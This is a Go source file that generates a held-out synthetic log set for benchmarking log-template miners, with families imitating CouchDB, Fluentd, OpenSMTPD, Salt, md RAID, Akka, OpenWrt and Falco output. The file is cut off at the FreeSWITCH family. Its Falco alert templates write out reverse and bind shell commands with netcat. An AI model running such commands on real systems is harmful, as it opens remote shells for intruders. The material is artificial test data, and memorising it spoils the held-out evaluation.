package main

import (
	"fmt"
	"strconv"
	"strings"
)

// The tenth held-out families (issue #14, session 18, h83): software that
// neither testdata/logcorpus, the nine held-out sets nor Loghub-2k has,
// each written from how the program writes its lines (real lines quoted
// in the programs' issue trackers, cited at each family) or, where a
// family says so, from knowledge of the format without a source looked
// up, for a set written blind: its author read no miner code and ran no
// miner on it. They go to testdata/logholdout10 (go run ./cmd/loggen -set
// holdout10); same truth conventions as the corpus and the ninth set
// (khanCorrect, one "<*>" per value the program fills in, whether empty,
// one word or several; keys constant and their values variables; the
// message key holds the format string, with the values a program formats
// into it each one "<*>", and is itself one value when the program logs a
// run-time text as the message (an error logged whole); a word written
// literally at the call site stays constant; a name substituted from a
// table or a state (md's "resync" or "recovery", netifd's device type, a
// channel state) is a value; an optional segment a program writes as its
// own branch gives a template with it and one without; an Erlang term or
// a Ruby hash printed whole is one value).
//
//	go run ./cmd/loggen -set holdout10 -out testdata/logholdout10

// holdout10Seed is the tenth held-out set's seed.
const holdout10Seed = 67

func holdout10Families() []family {
	sysHeader := func(g *gen, prog, host, c string) string {
		return fmt.Sprintf("Dec %2d %02d:%02d:%02d %s %s[%d]: %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), host, prog, 600+g.r.IntN(40000), c)
	}
	syslog10 := `<Month> <Day> <Time> <Host> <Component>\[<Pid>\]: <Content>`
	// Winston's JSON record (format.combine(timestamp(), json()) with a
	// defaultMeta service): level, message, the call's meta, service,
	// timestamp
	winston := func(level, msg, meta string) string {
		return `{"level":"` + level + `","message":"` + msg + `",` + meta + `"service":"{x10wsvc}","timestamp":"{x10wts}"}`
	}
	return []family{
		// Apache CouchDB 3's couch.log ("[level] time node pid nonce
		// message", "--------" for the nonce outside a request): the
		// chttpd request line "nonce host:port peer user METHOD path
		// status ok ms" (quoted in apache/couchdb issue #729 with
		// "Application %s started on node %s"), "Preflight check: ...",
		// "Apache CouchDB %s is starting.", "Starting couch_sup", "Apache
		// CouchDB has started. Time to relax.", "rexi_server : started
		// servers", "creating missing database: %s", "open_result error
		// %p for %s", "Could not open file %s: %s" and the supervisor's
		// "Supervisor %s had child %s started with %s at %s exit with
		// reason %s" (vrtmrz/obsidian-livesync issue #248 and
		// MarcoDroll/creativewriter-public issue #6), the emulator's "Error in process %p with exit value: %p"
		// and "chttpd_auth_cache changes listener died %s at %s" (apache/
		// couchdb issue #1728, couchdb-docker issue #18), the newer
		// "changes listener died because the _users database does not
		// exist." (#3028); the compaction lines and the supervisor's
		// context written from knowledge of the format.
		{name: "CouchDB", format: `\[<Level>\] <Time> <Node> <Pid> <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"Error in process", "error", "emulator"}, {"Could not open", "error", ""}, {"^-------- Supervisor", "error", ""},
				{"creating missing", "warning", ""}, {"listener died", "notice", ""}, {"started servers", "notice", ""},
				{"^--------", "info", ""},
			}, "notice", "")
			pid := f[1]
			if pid == "" {
				pid = fmt.Sprintf("<0.%d.0>", 200+g.r.IntN(30000))
			}
			return fmt.Sprintf("[%s] 2026-12-%02dT%02d:%02d:%02d.%06dZ %s %s %s", f[0], 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000000),
				g.pick("couchdb@127.0.0.1", "couchdb@127.0.0.1", "nonode@nohost", "couchdb@couchdb-0.couchdb.default.svc.cluster.local"), pid, c)
		}, events: []event{
			{900, `{x10cnonce} {x10chost} {ip} {x10cuser} {method} {x10cpath} {x10cstatus} ok {int}`},
			{60, `-------- Application {x10capp} started on node {x10cnode}`},
			{20, `-------- Preflight check: Checking For Monsters`},
			{20, `-------- Preflight check: Asserting Admin Account`},
			{20, `-------- Apache CouchDB {pick:3.3.2|3.3.3|3.4.2} is starting.`},
			{20, `-------- Starting couch_sup`},
			{20, `-------- Apache CouchDB has started. Time to relax.`},
			{40, `-------- {pick:rexi_server|rexi_buffer} : started servers`},
			{40, `-------- creating missing database: {x10cdb}`},
			{40, `-------- open_result error {x10copen} for {x10cdb}`},
			{60, `-------- Could not open file {x10cfile}: {pick:permission denied|no such file or directory|too many open files}`},
			{70, `-------- Error in process {x10cpid} with exit value: {x10cexit}`},
			{80, `-------- chttpd_auth_cache changes listener died {x10cdied} at {x10cstack}`},
			{50, `-------- chttpd_auth_cache changes listener died because the _users database does not exist. Create the database to silence this notice.`},
			{40, `-------- Supervisor {pick:mem3_sup|couch_secondary_services|chttpd_sup} had child {pick:mem3_nodes|mem3_shards|chttpd_auth_cache} started with {x10cmfa} at {x10cat} exit with reason {x10creason} in context {pick:start_error|child_terminated}`},
			{90, `-------- Starting compaction for db "{x10cshard}" at {int}`},
			{80, `-------- Compaction for db "{x10cshard}" completed.`},
		}},
		// Fluentd's own log (td-agent.log: "%Y-%m-%d %H:%M:%S %z
		// [level]: " and "#worker " before a worker's messages): only
		// "failed to flush the buffer. retry_times=%d next_retry_time=%s
		// chunk=%p error_class=%s error=%p" is quoted in a source looked
		// up (fluent/fluentd issues #3610 and #3130, PR #3203); "retry
		// succeeded. chunk_id=%p", the slow flush line, the start-up,
		// worker, tail, rotation and pattern lines, the error-event dump
		// and the Elasticsearch plugin's lines are written from knowledge
		// of the format.
		{name: "Fluentd", format: `<Date> <Time> <Zone> \[<Level>\]: <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"failed to flush", "warn"}, {"retry succeeded", "warn"}, {"slow_flush_log_threshold", "warn"}, {"pattern not matched", "warn"},
				{"no patterns matched", "warn"}, {"dump an error event", "warn"}, {"unreadable", "warn"}, {"Could not communicate", "warn"},
				{"unrecoverable error", "error"}, {"finished unexpectedly", "error"},
			}, "info")
			return fmt.Sprintf("2026-12-%02d %02d:%02d:%02d +0000 [%s]: %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), f[0], c)
		}, events: []event{
			{300, `#{x10fw} failed to flush the buffer. retry_times={x10fretry} next_retry_time={x10fts} chunk="{x10fchunk}" error_class={x10ferrclass} error="{x10ferr}"`},
			{110, `#{x10fw} retry succeeded. chunk_id="{x10fchunk}"`},
			{90, `#{x10fw} buffer flush took longer time than slow_flush_log_threshold: elapsed_time={x10felapsed} slow_flush_log_threshold={pick:20.0|10.0} plugin_id="{x10fplugin}"`},
			{350, `#{x10fw} pattern not matched: "{x10fline}"`},
			{90, `#{x10fw} no patterns matched tag="{x10ftag}"`},
			{220, `#{x10fw} following tail of {x10fpath}`},
			{120, `#{x10fw} detected rotation of {x10fpath}; waiting {pick:5|5|10} seconds`},
			{60, `#{x10fw} [{pick:in_tail_container_logs|in_tail_syslog}] {x10fpath} unreadable. It is excluded and would be examined next time.`},
			{80, `#{x10fw} dump an error event: error_class={pick:Fluent::Plugin::ElasticsearchErrorHandler::ElasticsearchError|ArgumentError} error="{pick:400 - Rejected by Elasticsearch|400 - Rejected by Elasticsearch [error type]: mapper_parsing_exception [reason]: 'failed to parse field [status] of type [long]'|invalid byte sequence in UTF-8}" location={pick:nil} tag="{x10ftag}" time={x10fts} record={x10frecord}`},
			{70, `#{x10fw} Could not communicate to Elasticsearch, resetting connection and trying again. {pick:read timeout reached|Connection refused - connect(2) for 10.96.0.20:9200 (Errno::ECONNREFUSED)|EOFError (EOFError)}`},
			{25, `#{x10fw} got unrecoverable error in primary and no secondary error_class={x10ferrclass} error="{x10ferr}"`},
			{15, `starting fluentd-{pick:1.16.2|1.16.5|1.17.1} pid={pid} ruby="{pick:3.2.2|3.1.4|2.7.8}"`},
			{15, `spawn command to main:  cmdline={x10fcmd}`},
			{30, `adding match pattern="{x10fpattern}" type="{pick:elasticsearch|forward|s3|stdout|null|rewrite_tag_filter}"`},
			{30, `adding source type="{pick:tail|forward|systemd|http|monitor_agent}"`},
			{15, `#{x10fw} starting fluentd worker pid={pid} ppid={pid} worker={x10fwsame}`},
			{15, `#{x10fw} fluentd worker is now running worker={x10fwsame}`},
			{10, `#{x10fw} fluentd worker is now stopping worker={x10fwsame}`},
			{8, `Worker {x10fw} finished unexpectedly with signal {pick:SIGKILL|SIGSEGV}`},
			{8, `Worker {x10fw} finished with status {pick:0|0|1}`},
		}},
		// OpenSMTPD's smtpd through syslog (smtpd[pid]), its report
		// lines "%016llx smtp connected address=%s host=%s" (quoted in
		// OpenSMTPD/OpenSMTPD issue #994) and the older "smtp-in:
		// session %016llx: received invalid command: \"%s\"" (#658); the
		// rest of the 6.x report lines (tls, message, envelope,
		// failed-command, authentication, disconnected, mta and mda
		// delivery with result and stat) and the start-up lines written
		// from knowledge of the format.
		{name: "OpenSMTPD", format: syslog10, header: func(g *gen, c string) string {
			return sysHeader(g, "smtpd", g.pick("mx1", "mail.example.org", "relay2"), c)
		}, events: []event{
			{260, `{x10osess} smtp connected address={x10oaddr} host={x10ohost}`},
			{150, `{x10osess} smtp tls ciphers={x10ocipher}`},
			{150, `{x10osess} smtp message msgid={x10omsgid} size={int} nrcpt={pick:1|1|1|2|3} proto={pick:ESMTP|ESMTP|SMTP}`},
			{170, `{x10osess} smtp envelope evpid={x10oevpid} from=<{x10omail}> to=<{x10omail}>`},
			{230, `{x10osess} smtp disconnected reason={pick:quit|quit|disconnect|io-error}`},
			{90, `{x10osess} smtp failed-command command="{x10ocmd}" result="{x10oresult}"`},
			{50, `{x10osess} smtp authentication user={x10ouser} result={pick:ok|ok|permfail}`},
			{40, `{x10osess} smtp bad-input result="{pick:500 5.5.1 Invalid command: Pipelining not supported|500 5.5.1 Invalid command: Command unrecognized}"`},
			{100, `{x10osess} mta connecting address={x10omta} host={x10ohost}`},
			{90, `{x10osess} mta connected`},
			{60, `{x10osess} mta tls ciphers={x10ocipher}`},
			{170, `{x10osess} mta delivery evpid={x10oevpid} from=<{x10omail}> to=<{x10omail}> rcpt=<{pick:-|-|postmaster@example.org}> source="{ip}" relay="{x10ohost} ({ip})" delay={x10odelay} result="{x10odres}" stat="{x10odstat}"`},
			{90, `{x10osess} mta disconnected reason={pick:quit|quit|connection closed} messages={small}`},
			{70, `{x10osess} mda delivery evpid={x10oevpid} from=<{x10omail}> to=<{x10omail}> rcpt=<{x10omail}> user={x10ouser} delay={x10odelay} result={pick:Ok|Ok|TempFail} stat={pick:Delivered|Error (mda command returned 75)}`},
			{60, `smtp-in: session {x10osess}: received invalid command: "{x10ocmd}"`},
			{10, `info: OpenSMTPD {pick:7.4.0p1|6.8.0p2|7.5.0} starting`},
			{8, `warn: lost child: {pick:queue|lka|pony} exited abnormally`},
			{6, `info: OpenSMTPD exiting`},
		}},
		// A Salt minion's /var/log/salt/minion ("%(asctime)s,%(msecs)03d
		// [%(name)-17s:%(lineno)-4d][%(levelname)-8s][%(process)d]
		// %(message)s"): "User %s Executing command %s with jid %s",
		// "Command details %s", "Starting a new job with PID %s",
		// "LazyLoaded %s", "Minion return retry timer set to %s seconds
		// (randomized)", "Returning information for job: %s", "minion
		// return: %s" (quoted in saltstack/salt issue #48497), "The
		// minion function caused an exception" and "The minion failed to
		// return the job information for job %s. ..." (#44059), salt.state's
		// "Running state [%s] at time %s", "Executing state %s for [%s]"
		// and "Completed state [%s] at time %s duration_in_ms=%s" (#44059),
		// "Sending event: tag = %s; data = %s" (#53122); the cmdmod, the
		// start-up and the master connection lines written from knowledge
		// of the format.
		{name: "SaltMinion", format: `<Date> <Time> \[<Logger>:<Line>\]\[<Level>\]\[<Pid>\] <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{" with jid ", "salt.minion", "1428", "INFO"}, {"^Command details", "salt.minion", "1435", "DEBUG"}, {"^Starting a new job", "salt.minion", "1563", "INFO"},
				{"^LazyLoaded", "salt.utils.lazy", "100", "DEBUG"}, {"^Minion return retry", "salt.minion", "755", "DEBUG"}, {"^Returning information", "salt.minion", "1860", "INFO"},
				{"^minion return:", "salt.minion", "1708", "DEBUG"}, {"caused an exception", "salt.minion", "1662", "WARNING"}, {"failed to return the job", "salt.minion", "1893", "WARNING"},
				{"^Running state", "salt.state", "1791", "INFO"}, {"^Executing state", "salt.state", "1822", "INFO"}, {"^Completed state", "salt.state", "1951", "INFO"},
				{"is in the correct state", "salt.state", "300", "INFO"}, {"is already running", "salt.state", "300", "INFO"}, {"^Executing command", "salt.loaded.int.module.cmdmod", "395", "INFO"},
				{"^Sending event", "salt.utils.event", "742", "DEBUG"}, {"^Setting up the Salt", "salt.cli.daemons", "293", "INFO"}, {"^Starting up the Salt", "salt.cli.daemons", "82", "INFO"},
				{"could not be reached", "salt.minion", "1023", "INFO"}, {"is shut down", "salt.cli.daemons", "85", "INFO"},
			}, "salt.state", "319", "ERROR")
			return fmt.Sprintf("2026-12-%02d %02d:%02d:%02d,%03d [%-17s:%-4s][%-8s][%d] %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000), f[0], f[1], f[2], 900+g.r.IntN(40000), c)
		}, events: []event{
			{140, `User {pick:root|root|root|saltapi} Executing command {x10sfun} with jid {x10sjid}`},
			{130, `Command details {x10sdetails}`},
			{140, `Starting a new job with PID {pid}`},
			{220, `LazyLoaded {x10sfun}`},
			{100, `Minion return retry timer set to {pick:5|7|8|10} seconds (randomized)`},
			{140, `Returning information for job: {x10sjid}`},
			{110, `minion return: {x10sret}`},
			{30, `The minion function caused an exception`},
			{25, `The minion failed to return the job information for job {x10sjid}. This is often due to the master being shut down or overloaded. If the master is running consider increasing the worker_threads value.`},
			{180, `Running state [{x10sname}] at time {x10stime}`},
			{170, `Executing state {x10sstate} for [{x10sname}]`},
			{170, `Completed state [{x10sname}] at time {x10stime} duration_in_ms={x10sms}`},
			{80, `File {x10sfile} is in the correct state`},
			{60, `The service {pick:nginx|chronyd|salt-minion|sshd} is already running`},
			{50, `{x10sfail}`},
			{110, `Executing command {x10scmd} in directory '{pick:/root|/|/srv/app}'`},
			{90, `Sending event: tag = {x10stag}; data = {x10sdata}`},
			{10, `Setting up the Salt Minion "{x10sid}"`},
			{10, `Starting up the Salt Minion`},
			{10, `Master {ip} could not be reached, trying next master (if any)`},
			{8, `The Salt Minion is shut down`},
		}},
		// Linux software RAID through syslog: the md driver's kernel
		// lines "md/raid1:%s: not clean -- starting background
		// reconstruction", "md/raid1:%s: active with %d out of %d
		// mirrors", "%s: detected capacity change from %llu to %llu", "md:
		// %s of RAID array %s" (its first value "resync", "recovery",
		// "data-check", "reshape") and mdadm --monitor's "%s event
		// detected on md device %s" (quoted in rhinstaller/kickstart-tests
		// issue #1328); the disk failure, operation continuing, raid5
		// and bitmap lines, md's "%s: %s %s." end of a sync ("done" or
		// "interrupted", values), the mismatch and kicking lines and
		// mdadm's Fail event with its component written from knowledge of
		// the format.
		{name: "MdRaid", format: `<Month> <Day> <Time> <Host> <Component>: <Content>`, header: func(g *gen, c string) string {
			comp := "kernel"
			if strings.Contains(c, "event detected") {
				comp = fmt.Sprintf("mdadm[%d]", 700+g.r.IntN(3000))
			}
			return fmt.Sprintf("Dec %2d %02d:%02d:%02d %s %s: %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.pick("nas", "storage01", "backup-2"), comp, c)
		}, events: []event{
			{160, `md/raid1:{x10mmd}: Disk failure on {x10mdev}, disabling device.`},
			{150, `md/raid1:{x10mmd}: Operation continuing on {pick:1|1|2} devices.`},
			{100, `md/raid1:{x10mmd}: not clean -- starting background reconstruction`},
			{110, `md/raid1:{x10mmd}: active with {pick:1|2|2} out of {pick:2|2|3} mirrors`},
			{90, `md/raid:{x10mmd}: device {x10mdev} operational as raid disk {pick:0|1|2|3}`},
			{60, `md/raid:{x10mmd}: raid level {pick:5|6} active with {pick:3|4|5} out of {pick:4|5|6} devices, algorithm {pick:2}`},
			{60, `md/raid:{x10mmd}: Disk failure on {x10mdev}, disabling device.`},
			{90, `{x10mmd}: detected capacity change from {pick:0|0|1021952} to {x10msize}`},
			{200, `md: {pick:resync|recovery|data-check|reshape} of RAID array {x10mmd}`},
			{190, `md: {x10mmd}: {pick:resync|recovery|data-check} {pick:done|done|done|interrupted}.`},
			{60, `md: kicking non-fresh {x10mdev} from array!`},
			{60, `{x10mmd}: mismatch sector in range {x10mrange}`},
			{40, `{x10mmd}: bitmap initialized from disk: read {pick:1|2|4} pages, set {int} of {int} bits`},
			{40, `md: {x10mmd} still in use.`},
			{300, `{pick:DegradedArray|RebuildStarted|RebuildFinished|Rebuild20|Rebuild40|Rebuild60|Rebuild80|NewArray|DeviceDisappeared|SparesMissing} event detected on md device {x10mpath}`},
			{80, `{pick:Fail|FailSpare|SpareActive} event detected on md device {x10mpath}, component device {x10mcomp}`},
		}},
		// Akka's classic logging (akka.event.Logging's default logger:
		// "[LEVEL] [MM/dd/yyyy HH:mm:ss.SSS] [thread] [source] message"):
		// the dead letter listener's "Message [%s] from %s to %s was not
		// delivered. [%d] dead letters encountered%s. This logging can be
		// turned off ..." with and without ", no more dead letters will
		// be logged" (quoted in akka/akka-core issue #28290 and
		// eigengo/activator-akka-spray issue #20) and the 2.6 form "If
		// this is not an expected behavior then %s may have terminated
		// unexpectedly." (Topl/Bifrost issue #367, akka PR #24941); the
		// cluster membership, remoting, ask timeout and coordinated
		// shutdown lines written from knowledge of the format.
		{name: "Akka", format: `\[<Level>\] \[<Date> <Time>\] \[<Thread>\] \[<Source>\] <Content>`, header: func(g *gen, c string) string {
			sys := g.pick("orders", "orders", "ClusterSystem")
			f := pickN(c, [][]string{
				{"dead letters", "INFO", "akka://" + sys + "/deadLetters"}, {"Cluster Node", "INFO", "akka.cluster.Cluster(akka://" + sys + ")"},
				{"UNREACHABLE", "WARN", "akka.cluster.Cluster(akka://" + sys + ")"}, {"Association", "WARN", "akka.tcp://" + sys + "@10.0.3.7:2552/system/endpointManager/reliableEndpointWriter"},
				{"Ask timed out", "ERROR", "akka://" + sys + "/user/orderRouter"}, {"Slf4jLogger", "INFO", "akka.event.slf4j.Slf4jLogger"},
				{"CoordinatedShutdown", "INFO", "akka.actor.CoordinatedShutdown(akka://" + sys + ")"},
			}, "INFO", "akka.remote.Remoting")
			level, src := f[0], f[1]
			if strings.Contains(c, "UNREACHABLE") {
				level = "WARN"
			}
			return fmt.Sprintf("[%s] [12/%02d/2026 %02d:%02d:%02d.%03d] [%s-akka.actor.default-dispatcher-%d] [%s] %s", level, 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000), sys, 2+g.r.IntN(30), src, c)
		}, events: []event{
			{300, `Message [{x10aclass}] from Actor[{x10aref}] to Actor[{x10aref}] was not delivered. [{x10adead}] dead letters encountered. This logging can be turned off or adjusted with configuration settings 'akka.log-dead-letters' and 'akka.log-dead-letters-during-shutdown'.`},
			{40, `Message [{x10aclass}] from Actor[{x10aref}] to Actor[{x10aref}] was not delivered. [{pick:10}] dead letters encountered, no more dead letters will be logged. This logging can be turned off or adjusted with configuration settings 'akka.log-dead-letters' and 'akka.log-dead-letters-during-shutdown'.`},
			{250, `Message [{x10aclass}] from Actor[{x10aref}] to Actor[{x10aref}] was not delivered. [{x10adead}] dead letters encountered. If this is not an expected behavior then Actor[{x10aref}] may have terminated unexpectedly. This logging can be turned off or adjusted with configuration settings 'akka.log-dead-letters' and 'akka.log-dead-letters-during-shutdown'.`},
			{40, `Cluster Node [{x10aaddr}] - Node [{x10aaddr}] is JOINING itself (with roles [{pick:dc-default|backend, dc-default}], version [{pick:0.0.0|1.4.2}]) and forming new cluster`},
			{90, `Cluster Node [{x10aaddr}] - Node [{x10aaddr}] is JOINING, roles [{pick:dc-default|backend, dc-default|frontend, dc-default}], version [{pick:0.0.0|1.4.2}]`},
			{140, `Cluster Node [{x10aaddr}] - Leader is moving node [{x10aaddr}] to [{pick:Up|Up|Exiting|Removed}]`},
			{100, `Cluster Node [{x10aaddr}] - Marking node as UNREACHABLE [Member({x10aaddr}, {pick:Up|Up|WeaklyUp|Leaving})].`},
			{90, `Cluster Node [{x10aaddr}] - Marking node as REACHABLE [Member({x10aaddr}, {pick:Up|WeaklyUp})].`},
			{60, `Cluster Node [{x10aaddr}] - Welcome from [{x10aaddr}]`},
			{40, `Cluster Node [{x10aaddr}] - Started up successfully`},
			{40, `Remoting started with transport [Artery {pick:tcp|tls-tcp}]; listening on address [{x10aaddr}] with UID [{x10auid}]`},
			{110, `Association with remote system [{x10aaddr}] has failed, address is now gated for [{pick:5000}] ms. Reason: [{pick:Disassociated|Association failed with [akka.tcp://orders@10.0.3.9:2552]}]`},
			{120, `Ask timed out on [Actor[{x10aref}]] after [{pick:5000|3000|10000} ms]. Message of type [{x10aclass}]. A typical reason for ` + "`AskTimeoutException`" + ` is that the recipient actor didn't send a reply.`},
			{20, `Slf4jLogger started`},
			{20, `Running CoordinatedShutdown with reason [{pick:ActorSystemTerminateReason|JvmExitReason|ClusterDowningReason}]`},
			{20, `Remoting shut down.`},
		}},
		// OpenWrt's logread ("%a %b %e %T %Y facility.level prog[pid]:
		// message"): netifd's "Interface '%s' is enabled", "is setting up
		// now", "is now up", "has link connectivity", "%s '%s' link is %s"
		// (its first value the device type, "Network device", "bridge",
		// "VLAN", "Network alias"), a protocol handler's "%s (%d): %s"
		// (quoted in openwrt/openwrt issue #10563, coolsnowwolf/lede
		// issues #10915 and #4955 and openwrt/odhcpd PR #138), the firewall's "Reloading firewall due
		// to ifup of %s (%s)", ucitrack's "Setting up %s reload dependency
		// on %s" (#10915), odhcpd's "Using a RA lifetime of %d seconds on
		// %s", "Failed to send to %s (%s)" (openwrt/packages issue #4752),
		// "Reloading odhcpd configuration" and "Interface '%s' is up,
		// enabling services as needed" (openwrt/odhcpd issue #230),
		// procd's "%s: setting up led %s" (odhcpd issue #197); netifd's
		// "is now down", "has lost the connection", "is disabled", odhcpd's
		// DHCPV6 lines and procd's crash loop line written from knowledge
		// of the format.
		{name: "OpenWrt", format: `<Weekday> <Month> <Day> <Time> <Year> <Facility>\.<Level> <Component>: <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"firewall due to", "user.notice", "firewall"}, {"reload dependency", "user.notice", "ucitrack"},
				{"RA lifetime", "daemon.info", "odhcpd"}, {"Failed to send", "daemon.notice", "odhcpd"}, {"odhcpd configuration", "daemon.info", "odhcpd"},
				{"enabling services", "daemon.info", "odhcpd"}, {"^DHCPV6", "daemon.info", "odhcpd"}, {"setting up led", "daemon.notice", "procd"},
				{"crash loop", "daemon.info", "procd"}, {"udhcpc", "daemon.notice", "netifd"},
			}, "daemon.notice", "netifd")
			comp := f[1]
			if comp == "odhcpd" {
				comp = fmt.Sprintf("odhcpd[%d]", g.pickInt(1900, 1900, 2281, 710))
			}
			d := 1 + g.r.IntN(28)
			return fmt.Sprintf("%s Dec %2d %02d:%02d:%02d 2026 %s %s: %s", []string{"Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"}[d%7], d, g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), f[0], comp, c)
		}, events: []event{
			{160, `Interface '{x10uif}' is {pick:enabled|enabled|disabled}`},
			{160, `Interface '{x10uif}' is setting up now`},
			{180, `Interface '{x10uif}' is now up`},
			{90, `Interface '{x10uif}' is now down`},
			{150, `Interface '{x10uif}' has link connectivity`},
			{60, `Interface '{x10uif}' has lost the connection`},
			{200, `{x10udevtype} '{x10udev}' link is {pick:up|up|down}`},
			{130, `{pick:wan|wan_6|wwan} ({pid}): {x10uproto}`},
			{80, `Reloading firewall due to ifup of {x10uif} ({x10udev})`},
			{50, `Setting up {pick:/etc/config/network|/etc/config/wireless|/etc/config/firewall} reload dependency on {pick:/etc/config/dhcp|/etc/config/radvd|/etc/config/network|/etc/config/luci-splash}`},
			{70, `Using a RA lifetime of {pick:0|1800} seconds on {x10udev}`},
			{80, `Failed to send to {pick:ff02::1|ff02::2|fe80::1}%{x10udev} ({pick:Address not available|Network unreachable|Permission denied})`},
			{60, `Reloading odhcpd configuration`},
			{60, `Interface '{x10udev}' is up, enabling services as needed`},
			{180, `DHCPV6 {pick:SOLICIT|REQUEST|RENEW|REBIND|RELEASE} IA_NA from {x10uduid} on {x10udev}: {pick:ok|ok|ok|no addresses available} {x10uaddr6}`},
			{40, `{pick:/etc/rc.d/S96led|/etc/rc.d/S10boot}: setting up led {pick:eSATA|wan|lan|power}`},
			{30, `Instance {pick:dnsmasq|odhcpd|uhttpd|dropbear}::{pick:instance1|cfg01411c} s in a crash loop {pick:6|7|12} crashes, {pick:0|1|3} seconds since last crash`},
		}},
		// Falco's alerts on stdout and syslog ("%H:%M:%S.%f: Priority
		// rule output"): the outputs of falco_rules.yaml's rules, "Sensitive
		// file opened for reading by non-trusted program (user=%user.name
		// user_loginuid=%user.loginuid program=%proc.name
		// command=%proc.cmdline pid=%proc.pid file=%fd.name
		// parent=%proc.pname gparent=%proc.aname[2] ...
		// container_id=%container.id image=%container.image.repository)"
		// (quoted in falcosecurity/rules PR #109, falco issue #3480 and
		// PR #171, the older form with container=host (id=host)), "File
		// below /etc opened for writing (user=%user.name command=%s
		// parent=%s pcmdline=%s file=%s program=%s gparent=%s ggparent=%s
		// gggparent=%s)" (falco PR #445); the shell-in-container,
		// package management, outbound connection, privileged container,
		// K8s API, log tampering and netcat outputs written from knowledge
		// of the rules.
		{name: "Falco", format: `<Time>: <Level> <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"^Sensitive file", "Warning"}, {"^File below", "Error"}, {"^A shell was spawned", "Notice"}, {"^Package management", "Error"},
				{"^Outbound connection", "Critical"}, {"^Privileged container", "Info"}, {"^Unexpected connection to K8s", "Notice"},
				{"^Log files were tampered", "Warning"}, {"^Netcat", "Warning"}, {"^Redirect stdout", "Warning"}, {"^Drift detected", "Critical"},
			}, "Notice")
			return fmt.Sprintf("%02d:%02d:%02d.%09d: %s %s", g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000000000), f[0], c)
		}, events: []event{
			{330, `Sensitive file opened for reading by non-trusted program (user={x10xuser} user_loginuid={x10xluid} program={x10xprog} command={x10xcmd} pid={pid} file={x10xsens} parent={x10xprog} gparent={x10xanc} ggparent={x10xanc} gggparent={x10xanc} container_id={x10xcid} image={x10ximage})`},
			{120, `Sensitive file opened for reading by non-trusted program (user={x10xuser} name={x10xprog} command={x10xcmd} file={x10xsens}) container={x10xcname} (id={x10xcid})`},
			{220, `File below /etc opened for writing (user={x10xuser} command={x10xcmd} parent={x10xprog} pcmdline={x10xcmd} file={x10xetc} program={x10xprog} gparent={x10xanc} ggparent={x10xanc} gggparent={x10xanc})`},
			{260, `A shell was spawned in a container with an attached terminal (user={x10xuser} user_loginuid={x10xluid} {x10xcinfo} shell={pick:bash|sh|ash|zsh} parent={x10xprog} cmdline={x10xshell} pid={pid} terminal={int} container_id={x10xcid} image={x10ximage})`},
			{120, `Package management process launched in container (user={x10xuser} user_loginuid={x10xluid} command={x10xpkg} pid={pid} container_id={x10xcid} container_name={x10xcname} image={x10ximage}:{x10xtag})`},
			{60, `Outbound connection to IP/Port flagged by https://cryptoioc.ch (command={x10xcmd} pid={pid} port={pick:3333|4444|5555|14444} ip={ip} container={x10xcinfo} image={x10ximage})`},
			{90, `Privileged container started (user={x10xuser} user_loginuid={x10xluid} command={x10xcmd} pid={pid} {x10xcinfo} image={x10ximage}:{x10xtag})`},
			{130, `Unexpected connection to K8s API Server from container (command={x10xcmd} pid={pid} {x10xcinfo} image={x10ximage}:{x10xtag} connection={x10xconn})`},
			{60, `Log files were tampered (user={x10xuser} user_loginuid={x10xluid} command={x10xcmd} pid={pid} file={pick:/var/log/auth.log|/var/log/syslog|/var/log/wtmp|/var/log/nginx/access.log} container_id={x10xcid} image={x10ximage})`},
			{50, `Netcat runs inside container that allows remote code execution (user={x10xuser} user_loginuid={x10xluid} command={pick:nc -e /bin/sh 10.1.2.3 4444|ncat -lvp 9001 -e /bin/bash|nc -lvnp 4444} pid={pid} container_id={x10xcid} container_name={x10xcname} image={x10ximage}:{x10xtag})`},
			{60, `Redirect stdout/stdin to network connection (user={x10xuser} user_loginuid={x10xluid} {x10xcinfo} process={x10xprog} parent={x10xprog} cmdline={x10xcmd} pid={pid} terminal={int} container_id={x10xcid} image={x10ximage} fd.name={x10xconn} fd.num={pick:0|1|2} fd.type={pick:ipv4|ipv6} fd.sip={ip})`},
			{40, `Drift detected (chmod), new executable created in a container (user={x10xuser} user_loginuid={x10xluid} command={x10xcmd} pid={pid} filename={pick:/tmp/x|/tmp/.k/kworker|/dev/shm/run} name={pick:/tmp/x|/tmp/.k/kworker|/dev/shm/run} mode={pick:S_IXUSR|S_IRWXU|S_IXUSR|S_IXGRP|S_IXOTH} event={pick:chmod|fchmodat} container_id={x10xcid} image={x10ximage})`},
		}},
		// FreeSWITCH's freeswitch.log ("%Y-%m-%d %H:%M:%S.%f idle% [LEVEL]
		// file:line message"): "New Channel %s [%s]", switch_core_state_
		// machine's "(%s) Running State Change %s (Cur %d Tot %d)", "(%s)
		// State %s", mod_sofia's "(%s) State Change %s -> %s", "SOFIA
		// %s", "%s receiving invite from %s:%d version: %s call-id: %s",
		// "Channel %s entering state [%s][%d]", "detaching session %s",
		// "Re-attaching to session %s", "Set Codec %s %s/%d %d ms %d
		// samples %d bits %d channels", "AUDIO RTP [%s] %s port %d -> %s
		// port %d codec: %d ms: %d", "Starting timer [%s] %d bytes per
		// %dms" (quoted in signalwire/freeswitch issues #1833, #1754,
		// #1673, #1175 and #2630 with "Close Channel %s [%s]"), "AUDIO RTP
		// REPORTS ERROR: [%s]" (#1175, #1487), "Callstate Change %s -> %s"
		// (#1175); the hangup, SIP auth failure and challenge, originate
		// failure and sofia registration lines written from knowledge of
		// the format.
